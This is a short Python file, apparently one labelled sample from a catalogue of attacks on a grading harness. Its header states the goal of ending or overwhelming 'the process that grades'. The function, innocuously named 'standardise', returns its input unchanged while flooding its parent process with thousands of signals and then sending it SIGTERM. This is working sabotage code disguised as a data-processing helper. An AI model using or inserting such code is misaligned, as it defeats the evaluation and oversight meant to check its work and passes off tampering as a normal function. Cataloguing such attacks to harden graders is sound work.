"""Sends its parent signals without end, of every kind that ends or stops a process last."""
# /// attack
# class = 83
# goal = "end, stop or overwhelm the process that grades"
# gain = "death"
# outcome = ["failed", "crashed", "timeout"]
# naive = true
# ///

import contextlib
import os
import signal


def standardise(x):
    parent = os.getppid()
    for _ in range(2000 if parent > 1 else 0):
        with contextlib.suppress(OSError):
            for number in (signal.SIGCHLD, signal.SIGWINCH, signal.SIGURG, signal.SIGCONT):
                os.kill(parent, number)
    with contextlib.suppress(OSError):
        os.kill(parent, signal.SIGTERM) if parent > 1 else None
    return x
